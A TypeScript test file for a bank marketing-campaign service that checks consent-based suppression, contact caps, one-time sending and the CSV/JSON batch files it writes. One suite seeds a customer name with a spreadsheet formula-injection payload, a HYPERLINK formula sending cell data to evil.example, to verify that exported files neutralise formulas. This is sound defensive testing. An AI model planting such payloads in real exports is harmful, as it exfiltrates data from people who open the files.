import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKENDS } from '../../../test/support/backends.ts';
import { BANK_PROPOSAL, createAndSend, previewOf } from '../../../test/support/campaigns.ts';
import { expectProblem, type TestApp, testApp } from '../../../test/support/http.ts';
import { changeObjection, changeRestriction, recordConsent, subjectStates } from '../../consent/consent.ts';
import { decide } from '../../decide/decide.ts';
import { createSubject } from '../../subjects/subjects.ts';
import { sendMessage } from '../comms.ts';
import { writeOutbound } from '../outbound.ts';

const who = { actor: 'test', role: 'admin' as const };
const proposal = BANK_PROPOSAL;

describe.each(BACKENDS)('campaigns on %s', (backend) => {
  let t: TestApp;
  let dir: string;
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    t = await testApp(backend);
    dir = await mkdtemp(join(tmpdir(), 'garde-campaign-'));
    t.deps.config.dataDir = dir;
    const make = async (name: string, extra: object = {}) => {
      ids[name] = (
        await createSubject(
          t.deps,
          {
            lifecycle: 'customer',
            customerSince: '2020-01-01',
            identity: { givenName: name, familyName: 'Test', city: 'Namur' },
            ...extra,
          },
          'test',
        )
      ).id;
    };
    for (const n of ['eligible', 'silent', 'objecting', 'restricted', 'contacted', 'holder']) await make(n);
    await make('prospect', {
      lifecycle: 'prospect',
      customerSince: null,
      lastContactAt: '2026-05-01T00:00:00Z',
    });
    for (const n of ['eligible', 'objecting', 'restricted', 'contacted', 'holder', 'prospect']) {
      await recordConsent(t.deps, ids[n] as string, { purpose: 'commercial-proposals', state: 'given' }, who);
    }
    await changeObjection(
      t.deps,
      ids.objecting as string,
      { kind: 'direct-marketing', action: 'raise' },
      who,
    );
    await changeRestriction(t.deps, ids.restricted as string, { action: 'impose', reason: 'disputed' }, who);
    await sendMessage(
      t.deps,
      { ...proposal, subjectId: ids.contacted as string, contentRef: 'earlier' },
      'test',
    );
    await t.deps.db.query(
      "INSERT INTO holdings (subject_id, product_code, account_ref, held_since) VALUES ($1, 'mortgage', 'M-1', '2021-01-01')",
      [ids.holder],
    );
  });
  afterAll(async () => {
    await t.dispose();
    await rm(dir, { recursive: true, force: true });
  });

  const create = (body: object) =>
    t.app.inject({
      method: 'POST',
      url: '/v1/campaigns',
      headers: t.as('marketer'),
      payload: { name: 'Printemps', contentRef: 'spring-2026', audience: {}, ...proposal, ...body },
    });

  it('previews eligible and suppressed counts per reason, exactly as decide() and the cap would answer', async () => {
    const campaign = (await create({})).json();
    const preview = await previewOf(t, campaign.id);
    const all = (await t.deps.db.query<{ id: string }>('SELECT id FROM subjects')).rows.map((r) => r.id);
    const states = await subjectStates(t.deps, all);
    const used = new Set(
      (
        await t.deps.db.query<{ subject_id: string }>(
          "SELECT subject_id FROM cap_usage WHERE window_key = '2026-06' AND used >= 1",
        )
      ).rows.map((r) => r.subject_id),
    );
    const expected: Record<string, number> = {};
    let eligible = 0;
    for (const id of all) {
      const d = decide(
        t.deps.policy,
        states.get(id) as never,
        { ...proposal, action: 'contact' },
        t.deps.now(),
      );
      const reason = d.allow ? (used.has(id) ? 'cap.reached' : null) : d.reasons[0];
      if (reason) expected[reason] = (expected[reason] ?? 0) + 1;
      else eligible++;
    }
    expect(preview).toEqual({
      audience: all.length,
      eligible,
      suppressed: expected,
      // The full slots were used one to one, by no campaign (BK-7 arbitration).
      arbitration: { takenBy: [], usedOtherwise: expected['cap.reached'] ?? 0, queued: [] },
      // The policy names the mailing house for the postal batch, and lets it receive it (EN-8).
      batch: { recipient: 'mailing-processor', allowed: true, reasons: [] },
    });
    expect(preview.suppressed).toMatchObject({
      'consent.missing': 2,
      'objection.marketing': 1,
      'restriction.active': 1,
      'cap.reached': 1,
      'lifecycle.not-allowed': 1,
    });
  });

  it('sends once: reserves the cap, writes the ledger and a need-to-know postal CSV', async () => {
    const campaign = (await create({ audience: { lifecycles: ['customer'] } })).json();
    const sent = (
      await t.app.inject({
        method: 'POST',
        url: `/v1/campaigns/${campaign.id}/send`,
        headers: t.as('marketer'),
      })
    ).json();
    expect(sent.sent).toBe(2);
    expect(sent.file).toBe(`outbound/${campaign.id}/postal-mail.csv`);
    const csv = await readFile(join(dir, sent.file), 'utf8');
    expect(csv.split('\r\n')[0]).toBe(
      '\uFEFFsubject_id,given_name,family_name,street,postal_code,city,country,content_ref',
    );
    expect(csv).toContain(`${ids.eligible},eligible,Test`);
    expect(csv).not.toContain(`${ids.silent}`);
    // The batch is judged again when it is written: an objection since the send keeps them out.
    await changeObjection(t.deps, ids.eligible as string, { kind: 'direct-marketing', action: 'raise' }, who);
    await writeOutbound(t.deps, campaign);
    expect(await readFile(join(dir, sent.file), 'utf8')).not.toContain(`${ids.eligible}`);
    await changeObjection(t.deps, ids.eligible as string, { kind: 'direct-marketing', action: 'lift' }, who);
    const again = await t.app.inject({
      method: 'POST',
      url: `/v1/campaigns/${campaign.id}/send`,
      headers: t.as('marketer'),
    });
    expectProblem(again, 409, 'CAMPAIGN_SENT');
    const second = (await create({ audience: { lifecycles: ['customer'] } })).json();
    const preview = await previewOf(t, second.id);
    expect(preview.eligible).toBe(0);
    expect(preview.suppressed['cap.reached']).toBe(3);
  });

  it('filters the audience by holdings', async () => {
    const campaign = (await create({ audience: { holdings: ['mortgage'] } })).json();
    const preview = await previewOf(t, campaign.id);
    expect(preview.audience).toBe(1);
  });

  it('refuses a campaign the policy forbids for everyone, naming why', async () => {
    const codes = async (body: object) =>
      (expectProblem(await create(body), 422, 'CAMPAIGN_INVALID').reasons as { code: string }[]).map(
        (r) => r.code,
      );
    expect(await codes({ sender: 'partner-broker' })).toEqual(['sender.not-allowed']);
    expect(await codes({ channel: 'website-banner', messageClass: 'banner' })).toEqual([
      'channel.requires_login',
    ]);
  });

  const legalNotice = { purpose: 'legal-information', messageClass: 'legal', contentRef: 'terms-2026' };
  const sendNow = (body: object) =>
    createAndSend(t, { name: 'Notice', audience: {}, ...proposal, ...legalNotice, ...body });

  it('a class that does not count toward the cap is previewed and sent (BK-9)', async () => {
    const created = (await create(legalNotice)).json();
    const preview = await t.app.inject({
      method: 'GET',
      url: `/v1/campaigns/${created.id}/preview`,
      headers: t.as('marketer'),
    });
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json().suppressed['cap.reached']).toBeUndefined();
    const sent = await sendNow({});
    expect(sent.sent).toBeGreaterThan(0);
  });

  describe('files for people and files for machines', () => {
    let tricky: string;
    beforeAll(async () => {
      const s = await createSubject(
        t.deps,
        {
          lifecycle: 'customer',
          customerSince: '2020-01-01',
          identity: {
            givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            familyName: '@SUM(1+1)',
            phone: '+32 470 12 34 56',
            email: '-zoe+tag@example.test',
            language: 'fr',
          },
        },
        'test',
      );
      tricky = s.id;
    });

    const trickyLine = async (file: string) => {
      const text = await readFile(join(dir, file), 'utf8');
      return { text, line: text.split('\r\n').find((l) => l.startsWith(tricky)) };
    };

    it('a call list opened in a spreadsheet runs no formula and reads as UTF-8', async () => {
      const { file } = await sendNow({ channel: 'contact-center' });
      expect(file).toMatch(/contact-center\.csv$/);
      const { text, line } = await trickyLine(file);
      expect(text.startsWith('\uFEFFsubject_id,given_name,family_name,phone,content_ref\r\n')).toBe(true);
      expect(line).toBe(
        `${tricky},"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'+32 470 12 34 56,terms-2026`,
      );
    });

    it('every batch a person opens neutralises formulas: postal lists and phone lists too', async () => {
      for (const channel of ['postal-mail', 'phone']) {
        const { line } = await trickyLine((await sendNow({ channel })).file);
        expect(line).toContain("'@SUM(1+1)");
        expect(line).not.toMatch(/,[=+\-@]/);
      }
    });

    it('a batch a program reads keeps values exactly (e-mail payloads)', async () => {
      const { file } = await sendNow({ channel: 'email' });
      expect(file).toMatch(/email\.json$/);
      const rows = JSON.parse(await readFile(join(dir, file), 'utf8')) as Record<string, string>[];
      // The bank's notice states no language preference: the batch carries none (BK-4).
      expect(rows.find((r) => r.subject_id === tricky)).toEqual({
        subject_id: tricky,
        email: '-zoe+tag@example.test',
        template: 'terms-2026',
        campaign: expect.any(String),
      });
    });
  });
});
